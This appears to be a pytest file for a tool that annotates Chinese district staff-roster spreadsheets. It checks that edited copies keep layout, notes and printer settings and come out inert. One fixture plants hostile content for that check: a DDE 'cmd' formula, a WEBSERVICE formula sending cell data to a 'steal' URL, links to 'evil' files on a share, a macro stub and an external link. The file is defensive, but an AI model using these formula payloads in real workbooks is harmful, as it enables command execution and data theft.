"""Annotated copies made by editing the district's own package (writing/package.py) read
back as the openpyxl path's copies do: same sheets, values, marks, notes, list and page set-up;
what the editor cannot keep faithful or inert goes to the openpyxl path."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.drawing.image import Image
from openpyxl.worksheet.hyperlink import Hyperlink

from consolidate import api
from consolidate.model.catalog import Catalog
from consolidate.support.config import load_config
from consolidate.writing import annotate as annotating
from consolidate.writing.annotate import FILLS, annotate

SAMPLE = Path(__file__).resolve().parent.parent / "sample_inputs"
AS_OF = dt.date(2026, 11, 25)
CONFIG = load_config()


def _both(source: Path, findings, tmp: Path, monkeypatch, **kw) -> tuple[Path, Path]:
    """(the edited copy, the openpyxl path's copy) of ``source``; the first must be edited."""
    new, old = tmp / f"new-{source.stem}.xlsx", tmp / f"old-{source.stem}.xlsx"
    made = []
    edited = annotating.edited_copy
    monkeypatch.setattr(annotating, "edited_copy", lambda *a: made.append(edited(*a)) or made[-1])
    annotate(source, findings, new, config=CONFIG, as_of=AS_OF, **kw)
    assert made and made[-1] is not None, f"{source.name} was not edited as a package"
    monkeypatch.setattr(annotating, "edited_copy", lambda *a: None)
    annotate(source, findings, old, config=CONFIG, as_of=AS_OF, **kw)
    monkeypatch.setattr(annotating, "edited_copy", edited)
    return new, old


def _cells(sheet) -> dict[str, tuple]:
    """Every cell with a value, a solid fill or a note: what a clerk sees of it."""
    seen = {}
    for row in sheet.iter_rows():
        for cell in row:
            fill = cell.fill.fgColor.rgb if cell.fill.patternType == "solid" else None
            note = (cell.comment.text, cell.comment.author) if cell.comment else None
            if cell.value is not None or fill or note:
                seen[cell.coordinate] = (cell.value, fill, note)
    return seen


OPENPYXL_WIDTH = 13.0  # a column openpyxl is asked of and was not given a width


def _widths(sheet) -> dict[int, float]:
    """Each column's width as a spreadsheet shows it (a <col> may span several)."""
    found = {}
    for dim in sheet.column_dimensions.values():
        if dim.customWidth:
            for n in range(dim.min or 1, (dim.max or dim.min or 1) + 1):
                found[n] = round(dim.width, 6)
    return found


def _heights(sheet) -> dict[int, float]:
    return {n: round(d.height, 6) for n, d in sheet.row_dimensions.items() if d.height}


def _looks(cell) -> tuple:
    return (cell.font.b, cell.font.sz, cell.font.color.rgb if cell.font.color else None,
            cell.border.left.style, cell.alignment.wrap_text, cell.alignment.horizontal,
            cell.alignment.vertical, cell.hyperlink.location if cell.hyperlink else None)  # fmt: skip


def assert_same_copy(new: Path, old: Path) -> None:
    a, b = openpyxl.load_workbook(new), openpyxl.load_workbook(old)
    assert a.sheetnames == b.sheetnames
    assert [s.sheet_view.tabSelected for s in a] == [s.sheet_view.tabSelected for s in b]
    assert a.active.title == b.active.title
    for x, y in zip(a.worksheets, b.worksheets, strict=True):
        assert _cells(x) == _cells(y), x.title
        assert {str(r) for r in x.merged_cells.ranges} == {str(r) for r in y.merged_cells.ranges}
        setup = [(s.page_setup.orientation, s.page_setup.paperSize, s.page_setup.fitToWidth,
                  s.page_setup.fitToHeight, s.sheet_properties.pageSetUpPr.fitToPage,
                  s.print_title_rows, s.print_area, s.page_margins.left, s.page_margins.right)
                 for s in (x, y)]  # fmt: skip
        assert setup[0] == setup[1], x.title
        # openpyxl writes every column fit_sheet looked at, those the district left at
        # the default as 13 wide: the edited copy leaves them as the district had them.
        widths = _widths(x), _widths(y)
        artefacts = {n for n, w in widths[1].items() if w == OPENPYXL_WIDTH and n not in widths[0]}
        assert widths[0] == {n: w for n, w in widths[1].items() if n not in artefacts}, x.title
        assert _heights(x) == _heights(y), x.title
        wrapped = [{c.coordinate for r in s.iter_rows() for c in r if c.alignment.wrap_text}
                   for s in (x, y)]  # fmt: skip
        assert wrapped[0] == wrapped[1], x.title
    listing = [a.worksheets[0], b.worksheets[0]]
    for x, y in zip(*(s.iter_rows() for s in listing), strict=True):
        assert [_looks(c) for c in x] == [_looks(c) for c in y]
    x, y = listing
    assert (x.freeze_panes, x.auto_filter.ref) == (y.freeze_panes, y.auto_filter.ref)
    assert {k: d.width for k, d in x.column_dimensions.items()} == {
        k: d.width for k, d in y.column_dimensions.items()
    }
    assert {k: d.height for k, d in x.row_dimensions.items()} == {
        k: d.height for k, d in y.row_dimensions.items()
    }
    assert not a.defined_names and not [n for s in a for n in s.defined_names]


SAMPLES = sorted(
    str(p.relative_to(SAMPLE))
    for p in SAMPLE.rglob("*.xls[xm]")
    if not p.relative_to(SAMPLE).parts[0].startswith("_")
)


@pytest.mark.parametrize("name", SAMPLES)
def test_the_sample_inboxs_copies_read_back_as_the_openpyxl_paths(tmp_path, monkeypatch, name):
    source = SAMPLE / name
    findings = api.check([source], as_of=AS_OF, config=CONFIG).findings
    new, old = _both(source, findings, tmp_path, monkeypatch, name=source.name)
    assert_same_copy(new, old)


@pytest.fixture(scope="module")
def catalog() -> Catalog:
    return Catalog(CONFIG)


def _roster(path: Path, *, note: bool = False, image: bool = False) -> Path:
    """A small Annex 2 as a district keeps it; marks land on cells that exist, on a cell
    and a row that hold nothing yet, and inside a merged range."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "附件 2"
    sheet["A1"] = "账号使用人信息汇总表"
    sheet.merge_cells("A1:G1")
    rows = [["序号", "市场监管部门", "姓名", "职务", "账号", "功能", "手机号"],
            [1, "上海市黄浦区市场监督管理局", "李明", "科长", "liming", "复审", "1381234567"],
            [2, None, "张伟", "科员", "zw", "初审", 13912345678]]  # fmt: skip
    for r, values in enumerate(rows, start=3):
        for c, value in enumerate(values, start=1):
            sheet.cell(r, c, value)
    sheet.merge_cells("B4:B5")
    sheet["C4"].font = openpyxl.styles.Font(bold=True, color="FF0000FF")
    sheet.column_dimensions["B"].width = 30
    if note:
        sheet["F5"].comment = Comment("区里的备注", "clerk")
        sheet["A3"].comment = Comment("无人标注的备注", "clerk")
    if image:
        sheet.page_setup.orientation = "portrait"
        png = io.BytesIO()
        from PIL import Image as Pillow

        Pillow.new("RGB", (4, 4), "red").save(png, "PNG")
        sheet.add_image(Image(png), "J2")
    book.create_sheet("说明")["A1"] = "填表说明"
    book.save(path)
    return path


def _marks(catalog: Catalog, sheet: str = "附件 2") -> list:
    at = {"file": "黄浦区/附件2.xlsx", "sheet": sheet, "annex": 2}
    return [
        catalog.make("phone-invalid", row=4, col=7, value="1381234567", person="李明", **at),
        catalog.make("function-repeated", row=4, col=6, value="复审", person="李明", **at),
        catalog.make("name-suspicious", row=4, col=3, value="李明", **at),
        catalog.make("person-duplicate", row=4, col=3, value="李明", **at),
        catalog.make("district-mismatch", row=5, col=2, value="x", **at),  # inside B4:B5
        catalog.make("duties-conflict", row=5, col=6, value="初审", **at),
        catalog.make("seq-invalid", row=5, col=9, value="", **at),  # a cell not written
        catalog.make("seq-invalid", row=9, col=2, value="", **at),  # a row not written
        catalog.make("annex-empty", file=at["file"], sheet=sheet, annex=2),
        catalog.make("template-outdated", file=at["file"]),
    ]


@pytest.mark.parametrize("note", [False, True])
def test_a_generated_roster_reads_back_as_the_openpyxl_paths(tmp_path, monkeypatch, catalog, note):
    source = _roster(tmp_path / "附件2.xlsx", note=note)
    new, old = _both(source, _marks(catalog), tmp_path, monkeypatch)
    assert_same_copy(new, old)
    sheet = openpyxl.load_workbook(new)["附件 2"]
    assert sheet["G4"].fill.fgColor.rgb == FILLS["error"] and sheet["B4"].comment
    assert sheet["C4"].font.b and sheet["C4"].font.color.rgb == "FF0000FF"  # its own look kept
    unwritten = FILLS[_marks(catalog)[-3].severity]
    assert sheet["I5"].fill.fgColor.rgb == sheet["B9"].fill.fgColor.rgb == unwritten
    if note:
        assert sheet["F5"].comment.text.startswith("区里的备注\n\n【")
        assert sheet["A3"].comment.text == "无人标注的备注"


PRINTER = b"DEVMODE of the district's printer"


def _with_printer(path: Path) -> Path:
    """``path`` with its first sheet's printer settings, as Excel keeps them."""
    ns = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts["xl/printerSettings/printerSettings1.bin"] = PRINTER
    rels = "xl/worksheets/_rels/sheet1.xml.rels"
    parts[rels] = parts[rels].replace(
        b"</Relationships>",
        f'<Relationship Id="rIdP" Type="{ns}/printerSettings" '
        'Target="../printerSettings/printerSettings1.bin"/></Relationships>'.encode(),
    )
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(
        b"<pageSetup ", f'<pageSetup xmlns:r="{ns}" r:id="rIdP" '.encode()
    )
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.'
        b'spreadsheetml.printerSettings"/></Types>',
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, body in parts.items():
            target.writestr(name, body)
    return path


def test_what_openpyxl_would_drop_survives_the_edited_copy(tmp_path, catalog):
    """The district's printer settings (openpyxl drops them), a picture and its column
    widths stay; only the parts that must change do."""
    source = _with_printer(_roster(tmp_path / "附件2.xlsx", image=True))
    assert "printerSettings" not in str(openpyxl.load_workbook(source)["附件 2"].page_setup.id)
    out = tmp_path / "out.xlsx"
    annotate(source, _marks(catalog), out, config=CONFIG, as_of=AS_OF)
    with zipfile.ZipFile(out) as copy, zipfile.ZipFile(source) as sent:
        assert [n for n in copy.namelist() if n.startswith("xl/media/")] == [
            n for n in sent.namelist() if n.startswith("xl/media/")
        ]
        assert copy.read("xl/theme/theme1.xml") == sent.read("xl/theme/theme1.xml")
        assert copy.read("xl/printerSettings/printerSettings1.bin") == PRINTER
        sheet = copy.read("xl/worksheets/sheet1.xml").decode()
        rels = copy.read("xl/worksheets/_rels/sheet1.xml.rels").decode()
    assert re.search(r'<pageSetup [^>]*r:id="rIdP"', sheet) and 'Id="rIdP"' in rels
    book = openpyxl.load_workbook(out)
    assert len(book["附件 2"]._images) == 1
    assert book["附件 2"].column_dimensions["B"].width == 30


LIVE = {
    "H2": "=cmd|' /C calc'!A0",
    "H3": '=WEBSERVICE("http://10.0.0.9/steal?"&B5)',
    "H4": '=HYPERLINK("\\\\fileserver\\share\\evil.xlsx","点此核对")',
}


def _hostile(path: Path) -> Path:
    """Live formulas, a hyperlink to a share, a name of the sender's, macros and an
    external link, in a workbook the editor copies (narrow enough to print as it is)."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "附件 2"
    cells = {
        "A3": "序号",
        "G3": "手机号",
        "A4": 1,
        "B4": "黄浦区",
        "C4": "李明",
        "G4": "1381234567",
    }
    for ref, value in {**cells, **LIVE}.items():
        sheet[ref] = value
    sheet["B4"].hyperlink = "file://///fileserver/share/evil.exe"
    sheet["C4"].hyperlink = Hyperlink(ref="C4", location="'附件 2'!A1")  # inside: kept
    book.defined_names["价格"] = openpyxl.workbook.defined_name.DefinedName(
        "价格", attr_text="[1]Sheet1!$A$1"
    )
    sheet.print_title_rows = "3:3"
    buffer = io.BytesIO()
    book.save(buffer)
    ns = "http://schemas.openxmlformats.org"
    parts = {}
    with zipfile.ZipFile(buffer) as archive:
        for name in archive.namelist():
            parts[name] = archive.read(name)
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b"</sheets>",
        f'</sheets><externalReferences><externalReference xmlns:r="{ns}/officeDocument/2006/'
        f'relationships" r:id="rIdX1"/></externalReferences>'.encode(),
    )
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        f'<Relationship Id="rIdX1" Type="{ns}/officeDocument/2006/relationships/externalLink" '
        f'Target="externalLinks/externalLink1.xml"/><Relationship Id="rIdV" Type="http://schemas'
        '.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
        "</Relationships>".encode(),
    )
    parts["[Content_Types].xml"] = (
        parts["[Content_Types].xml"]
        .replace(
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        )
        .replace(
            b"</Types>",
            b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
            b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
        )
    )
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 not really a macro"
    parts["xl/externalLinks/externalLink1.xml"] = (
        f'<externalLink xmlns="{ns}/spreadsheetml/2006/main" xmlns:r="{ns}/officeDocument/2006/'
        'relationships"><externalBook r:id="rId1"/></externalLink>'
    ).encode()
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        f'<Relationships xmlns="{ns}/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{ns}/officeDocument/2006/relationships/externalLinkPath" '
        'Target="file://///fileserver/share/prices.xlsx" TargetMode="External"/></Relationships>'
    ).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, body in parts.items():
            target.writestr(name, body)
    return path


def test_an_edited_copy_is_inert(tmp_path, monkeypatch, catalog):
    source = _hostile(tmp_path / "附件2.xlsm")
    findings = [_marks(catalog)[0]]
    new, old = _both(source, findings, tmp_path, monkeypatch)
    with zipfile.ZipFile(new) as archive:
        names = archive.namelist()
        xml = "".join(
            archive.read(n).decode("utf-8", "replace")
            for n in names
            if n.endswith((".xml", ".rels"))
        )
    assert not [n for n in names if "externalLink" in n or "vbaProject" in n]
    assert not re.search(r"<(\w+:)?f[ >]", xml), "a formula survived"
    for word in ("cmd|", "WEBSERVICE", "HYPERLINK", "fileserver", "TargetMode", "macroEnabled"):
        assert word not in xml, word
    book = openpyxl.load_workbook(new)
    sheet = book["附件 2"]
    assert sheet["B4"].hyperlink is None and sheet["C4"].hyperlink.location == "'附件 2'!A1"
    assert sheet.print_title_rows == "$3:$3" and "价格" not in book.defined_names
    assert sheet["G4"].comment is not None
    assert_same_copy(new, old)


def _prefixed(source: Path, path: Path) -> Path:
    """``source`` with its sheets written with a prefix for the main namespace (valid, as
    some generators write it; openpyxl reads it, the editor leaves it to openpyxl)."""
    main = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    with zipfile.ZipFile(source) as sent, zipfile.ZipFile(path, "w") as target:
        for name in sent.namelist():
            body = sent.read(name)
            if name.startswith("xl/worksheets/sheet"):
                body = re.sub(rb"<(/?)(?!\?)([A-Za-z])", rb"<\1x:\2", body)
                body = body.replace(main, main.replace(b"xmlns=", b"xmlns:x="))
            target.writestr(name, body)
    return path


def test_a_package_the_editor_cannot_keep_goes_to_the_openpyxl_path(tmp_path, catalog):
    source = _prefixed(_roster(tmp_path / "附件2.xlsx"), tmp_path / "前缀.xlsx")
    assert openpyxl.load_workbook(source)["附件 2"]["C4"].value == "李明"
    findings = _marks(catalog)
    assert annotating.edited_copy(source, findings, ("x", AS_OF), "zh", CONFIG) is None
    out = tmp_path / "out.xlsx"
    annotate(source, findings, out, config=CONFIG, as_of=AS_OF)
    sheet = openpyxl.load_workbook(out)["附件 2"]
    assert sheet["G4"].fill.fgColor.rgb == FILLS["error"] and sheet["G4"].comment


def test_a_used_range_too_large_to_walk_goes_to_the_openpyxl_path(tmp_path, catalog):
    """A cell formatted far out: fit_sheet would make each of millions of empty cells in
    openpyxl (a gigabyte), so the copy is the openpyxl path's, rebuilt from the values."""
    source = tmp_path / "附件2.xlsx"
    book = openpyxl.load_workbook(_roster(source))
    book["附件 2"]["AZ70000"].border = openpyxl.styles.Border(bottom=openpyxl.styles.Side("thin"))
    book.save(source)
    findings = _marks(catalog)
    assert annotating.edited_copy(source, findings, ("x", AS_OF), "zh", CONFIG) is None
    out = tmp_path / "out.xlsx"
    annotate(source, findings, out, config=CONFIG, as_of=AS_OF)
    sheet = openpyxl.load_workbook(out)["附件 2"]
    assert sheet["G4"].comment and sheet.max_row < 70_000
